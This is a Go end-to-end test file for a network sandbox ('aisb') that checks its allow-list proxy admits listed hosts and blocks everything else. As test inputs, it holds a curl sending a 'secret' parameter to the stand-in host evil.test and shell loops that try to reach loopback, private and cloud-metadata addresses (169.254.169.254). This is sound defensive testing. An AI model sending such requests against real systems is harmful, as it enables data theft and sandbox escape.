//go:build e2e

package e2e

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/aisb-dev/aisb/tests/fakes"
)

// withCA is a project that holds the certificate of the fake internet.
func withCA(t *testing.T) call {
	t.Helper()
	dir := project(t)
	pem, err := os.ReadFile(internet.ca)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "ca.pem", string(pem))
	return call{dir: dir}
}

var allowed = []string{"--allow", "allowed.test"}

// Point 1: an allowed origin is reached over http, and over https by CONNECT.
func TestPoint1AllowedOriginIsReached(t *testing.T) {
	c := withCA(t)
	for scheme, kind := range map[string]string{"http": "http", "https": "https"} {
		t.Run(scheme, func(t *testing.T) {
			gone := wantNothingLeft(t)
			mark := internet.mark()
			o := c.aisb(t, allowed, "curl", "-sS", "--cacert", "ca.pem", scheme+"://allowed.test/some/page")
			o.wantStatus(t, 0)
			if want := "origin GET allowed.test /some/page\n"; o.stdout != want {
				t.Errorf("curl printed %q, want %q", o.stdout, want)
			}
			events := internet.since(t, mark, kind)
			if len(events) != 1 || events[0].Host != "allowed.test" {
				t.Errorf("the origin saw %+v", events)
			}
			for _, e := range internet.since(t, mark, "dns") {
				if e.Name != "allowed.test" {
					t.Errorf("a query for %q left", e.Name)
				}
			}
			wantIn(t, "receipt", o.stderr, "aisb: ", "status 0", "fence proved", "allowed.test")
			gone()
		})
	}
}

// Point 1: an unlisted name is refused with a 403 that says what to do, and no
// query for it leaves.
func TestPoint1UnlistedNameIsRefused(t *testing.T) {
	t.Run("http", func(t *testing.T) {
		mark := internet.mark()
		o := aisb(t, allowed, "curl", "-sS", "-i", "http://evil.test/x?secret=1")
		o.wantStatus(t, 0)
		wantIn(t, "answer", o.stdout, "HTTP/1.1 403 Blocked by aisb: not-listed\r\n", "Content-Type: text/plain",
			"X-Aisb-Reason: not-listed\r\n", "Connection: close\r\n", "evil.test", "--allow 'evil.test'", "not wanted")
		wantNot(t, "answer", o.stdout, "secret")
		wantIn(t, "receipt", o.stderr, "evil.test", "not-listed", "--allow evil.test")
		internet.wantSilence(t, mark)
	})
	t.Run("https", func(t *testing.T) {
		mark := internet.mark()
		o := aisb(t, allowed, "curl", "-sS", "-D", "/dev/stdout", "https://evil.test/")
		o.wantStatus(t, 56) // CURLE_RECV_ERROR: the proxy refused CONNECT
		wantIn(t, "answer", o.stdout, "HTTP/1.1 403 Blocked by aisb: not-listed\r\n", "X-Aisb-Reason: not-listed\r\n")
		wantIn(t, "curl's error", o.stderr, "403")
		internet.wantSilence(t, mark)
	})
	t.Run("subdomain and superdomain", func(t *testing.T) {
		mark := internet.mark()
		o := aisb(t, allowed, sh(`for h in also.allowed.test test notallowed.test allowed.test.evil.test allowed.test:8080; do
			curl -s -o /dev/null -w "$h %{http_code}\n" http://$h/; done`)...)
		o.wantStatus(t, 0)
		if n := strings.Count(o.stdout, " 403\n"); n != 5 {
			t.Errorf("%d of 5 were refused:\n%s", n, o.stdout)
		}
		internet.wantSilence(t, mark)
	})
}

// TestGateRefusesTheInside tries to make the gate itself reach what the host
// can and the sandbox must not: the rule is there, the address is wrong.
func TestGateRefusesTheInside(t *testing.T) {
	own, loop := listen(t, "0.0.0.0:0"), listen(t, "127.0.0.1:0")
	mark := internet.mark()
	o := aisb(t, []string{"--allow", "inside.test:*,own.test:*,loop.test:*,mixed.test:*"},
		sh(fmt.Sprintf(`for u in inside.test:%[1]d own.test:%[1]d loop.test:%[2]d mixed.test:80 localhost:%[2]d 10.77.0.1:%[1]d 127.0.0.1:%[2]d 169.254.169.254:80; do
		curl -s --noproxy '' -o /dev/null -w "$u %%{http_code} %%header{x-aisb-reason}\n" http://$u/; done`, own.port, loop.port))...)
	o.wantStatus(t, 0)
	for _, want := range []string{
		fmt.Sprintf("inside.test:%d 403 special-address", own.port),
		fmt.Sprintf("own.test:%d 403 own-address", own.port),
		fmt.Sprintf("loop.test:%d 403 special-address", loop.port),
		"mixed.test:80 403 mixed-answer",
		fmt.Sprintf("localhost:%d 403 reserved-name", loop.port),
		fmt.Sprintf("10.77.0.1:%d 403 ip-literal", own.port),
		fmt.Sprintf("127.0.0.1:%d 403 ip-literal", loop.port),
		"169.254.169.254:80 403 ip-literal",
	} {
		wantIn(t, "answers", o.stdout, want+"\n")
	}
	own.wantNone(t)
	loop.wantNone(t)
	if events := internet.since(t, mark, "http", "https", "tcp"); len(events) > 0 {
		t.Errorf("reached: %+v", events)
	}
}

// TestRulesForTheInsideAreErrors: what no rule can open, or only with an
// option, is said before anything starts.
func TestRulesForTheInsideAreErrors(t *testing.T) {
	for _, rule := range []string{"localhost:80", "127.0.0.1:80", "10.77.0.1:80", "169.254.169.254:80", "[::1]:80"} {
		o := aisb(t, []string{"--allow", rule}, "true")
		o.wantStatus(t, 2)
		wantIn(t, "error", o.stderr, "aisb: error: --allow: rule "+strconv.Quote(rule), "aisb: hint: ")
	}
}

// TestHostService reaches a service on the host's loopback by the reserved name
// and an explicit port, and no other service there.
func TestHostService(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: fakes.Site()}
	go srv.Serve(ln)
	defer srv.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	other := listen(t, "127.0.0.1:0")
	o := aisb(t, []string{"--allow", fmt.Sprintf("host.containers.internal:%d", port)}, sh(fmt.Sprintf(`
		curl -sS http://host.containers.internal:%d/own
		curl -sS -o /dev/null -w "%%{http_code}\n" http://host.containers.internal:%d/`, port, other.port))...)
	o.wantStatus(t, 0)
	if want := fmt.Sprintf("origin GET host.containers.internal:%d /own\n403\n", port); o.stdout != want {
		t.Errorf("got %q, want %q", o.stdout, want)
	}
	other.wantNone(t)
}

// TestNetNone reaches nothing, not even a gate, and resolves nothing.
func TestNetNone(t *testing.T) {
	mark := internet.mark()
	o := aisb(t, []string{"--net", "none"}, sh(`env | grep -i proxy; curl -s --max-time 5 http://allowed.test/; echo $?
		curl -s --max-time 5 http://`+originAddr+`/; echo $?; ls /sys/class/net`)...)
	o.wantStatus(t, 0)
	if o.stdout != "6\n7\nlo\n" { // could not resolve, could not connect
		t.Errorf("got %q", o.stdout)
	}
	wantIn(t, "receipt", o.stderr, "fence proved")
	internet.wantSilence(t, mark)
}
